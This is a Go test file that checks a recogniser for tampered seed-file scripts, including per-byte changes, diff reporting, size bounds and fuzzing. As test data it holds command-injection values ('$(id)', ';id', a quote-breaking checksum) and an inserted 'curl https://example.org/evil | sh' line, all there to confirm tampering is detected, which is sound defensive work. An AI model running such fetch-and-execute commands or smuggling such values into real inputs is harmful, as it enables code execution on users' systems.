package transport_test

import (
	"bytes"
	"strings"
	"testing"

	"seed/seedfile/transport"
)

func TestSP_TPL_09_Recognise(t *testing.T) {
	t.Parallel()
	for _, url := range []string{
		transport.Unplanted,
		"https://seed.example:8443/s/a-b_c.d~e%20@+,=",
		"http://localhost:8080/s/abc",
		"http://127.0.0.1/s/abc",
		"http://[::1]:80/s/abc",
	} {
		for _, p := range allProfiles {
			v := sample()
			v.URL = url
			got := transport.Recognise(p.Head(v), p.Tail(v.Sentinel))
			if !got.Canonical || got.Profile != p || got.Params != v || got.Diff != nil {
				t.Errorf("%v of %s: got %+v", p, url, got)
			}
		}
	}
}

// Values that would smuggle code through the rebuilding are not values.
func TestSP_TPL_09_RecogniseValues(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*transport.Params){
		"url with command":       func(v *transport.Params) { v.URL = "https://x/;id" },
		"url without host":       func(v *transport.Params) { v.URL = "https://" },
		"plain http":             func(v *transport.Params) { v.URL = "http://example.org/x" },
		"host like localhost":    func(v *transport.Params) { v.URL = "http://localhost.example.org/x" },
		"host behind localhost":  func(v *transport.Params) { v.URL = "http://localhost:80@example.org/x" },
		"url with line feed":     func(v *transport.Params) { v.URL = "https://x/ | sh\n# Usage: curl -sSL https://x/" },
		"file with command":      func(v *transport.Params) { v.File = "a.md$(id)" },
		"file with blank":        func(v *transport.Params) { v.File = "a id" },
		"file with slash":        func(v *transport.Params) { v.File = "../a" },
		"file begins with dot":   func(v *transport.Params) { v.File = ".a" },
		"file begins with dash":  func(v *transport.Params) { v.File = "-a" },
		"file too long":          func(v *transport.Params) { v.File = strings.Repeat("a", 101) },
		"no file":                func(v *transport.Params) { v.File = "" },
		"sum with quote":         func(v *transport.Params) { v.Sum = "1 2'; id; '" },
		"sum with leading zero":  func(v *transport.Params) { v.Sum = "01 2" },
		"sum without size":       func(v *transport.Params) { v.Sum = "1" },
		"sentinel not hex":       func(v *transport.Params) { v.Sentinel = "SEED_70DD0AEG" },
		"sentinel lower case":    func(v *transport.Params) { v.Sentinel = "SEED_70dd0ae2" },
		"sentinel of old prefix": func(v *transport.Params) { v.Sentinel = "XDOWN_70DD0AE2" },
		"sentinel with quote":    func(v *transport.Params) { v.Sentinel = "SEED_70DD0A'\nid #" },
	} {
		v := sample()
		change(&v)
		got := transport.Recognise(transport.Full.Head(v), transport.Full.Tail(v.Sentinel))
		if got.Canonical {
			t.Errorf("%s: taken for canonical", name)
		}
		if len(got.Diff) == 0 {
			t.Errorf("%s: no differing line", name)
		}
	}
}

// No single byte can be changed, dropped or added unseen.
func TestSP_TPL_09_RecogniseEveryByte(t *testing.T) {
	t.Parallel()
	v := sample()
	for _, p := range allProfiles {
		head, tail := p.Head(v), p.Tail(v.Sentinel)
		step := 97
		if full {
			step = 1
		}
		for i := 0; i < len(tail); i += step {
			changed := bytes.Clone(tail)
			changed[i] ^= 1
			if got := transport.Recognise(head, changed); got.Canonical {
				t.Fatalf("%v: byte %d of the tail can be changed", p, i)
			}
		}
		if transport.Recognise(head, tail[:len(tail)-1]).Canonical || transport.Recognise(head, append(bytes.Clone(tail), '\n')).Canonical {
			t.Errorf("%v: the end of the tail is not looked at", p)
		}
		if got := transport.Recognise(bytes.Replace(head, []byte("\n\n"), []byte("\n"), 1), tail); got.Canonical {
			t.Errorf("%v: canonical without its blank line", p)
		}
		if got := transport.Recognise(append(bytes.Clone(head), '\n'), tail); got.Canonical {
			t.Errorf("%v: canonical with a line behind the head", p)
		}
	}
	other := bytes.Replace(transport.Doc.Head(v), []byte("seed_file=note.md"), []byte("seed_file=other.md"), 1)
	if transport.Recognise(other, transport.Doc.Tail(v.Sentinel)).Canonical {
		t.Error("canonical with two file names")
	}
}

func TestSP_TPL_09_RecogniseDiff(t *testing.T) {
	t.Parallel()
	v := sample()
	for _, p := range allProfiles {
		tail := string(p.Tail(v.Sentinel))
		lines := strings.SplitAfter(tail, "\n")
		evil := strings.Join(lines[:7], "") + "    curl https://example.org/evil | sh\n" + strings.Join(lines[7:], "")
		got := transport.Recognise(p.Head(v), []byte(evil))
		want := transport.DiffLine{Part: transport.After, Line: 8, Text: "    curl https://example.org/evil | sh"}
		if got.Canonical || got.Profile != p || len(got.Diff) != 1 || got.Diff[0] != want || got.Cut {
			t.Errorf("%v: added line: got %+v, want %+v", p, got, want)
		}
		less := strings.Join(lines[:9], "") + strings.Join(lines[10:], "")
		got = transport.Recognise(p.Head(v), []byte(less))
		want = transport.DiffLine{Part: transport.After, Line: 10, Missing: true, Text: strings.TrimSuffix(lines[9], "\n")}
		if len(want.Text) > 200 {
			want.Text = want.Text[:200]
		}
		if got.Profile != p || len(got.Diff) != 1 || got.Diff[0] != want {
			t.Errorf("%v: missing line: got %+v, want %+v", p, got, want)
		}
	}
}

// Whatever the input, the answer is small and comes soon.
func TestSP_TPL_09_RecogniseBounded(t *testing.T) {
	t.Parallel()
	v := sample()
	for name, b := range map[string][]byte{
		"nothing":    nil,
		"one line":   bytes.Repeat([]byte("x"), 8<<20),
		"line feeds": bytes.Repeat([]byte("\n"), 8<<20),
		"good lines": bytes.Repeat(transport.Bin.Tail(v.Sentinel), 500),
		"good heads": bytes.Repeat(transport.Bin.Head(v), 50000),
	} {
		got := transport.Recognise(b, b)
		if got.Canonical || len(got.Diff) == 0 || len(got.Diff) > 50 {
			t.Errorf("%s: got %d lines, canonical %v", name, len(got.Diff), got.Canonical)
		}
		for _, d := range got.Diff {
			if len(d.Text) > 200 {
				t.Errorf("%s: line of %d bytes", name, len(d.Text))
			}
		}
		if b != nil && !got.Cut {
			t.Errorf("%s: not told that there is more", name)
		}
	}
}

func FuzzRecognise(f *testing.F) {
	v := sample()
	f.Add(transport.Doc.Head(v), transport.Doc.Tail(v.Sentinel))
	f.Add(transport.Bin.Head(v), transport.Full.Tail(v.Sentinel))
	f.Fuzz(func(t *testing.T, head, tail []byte) {
		got := transport.Recognise(head, tail)
		if !got.Canonical {
			return
		}
		if !bytes.Equal(got.Profile.Head(got.Params), head) || !bytes.Equal(got.Profile.Tail(got.Params.Sentinel), tail) {
			t.Fatalf("%+v does not rebuild its input", got)
		}
	})
}
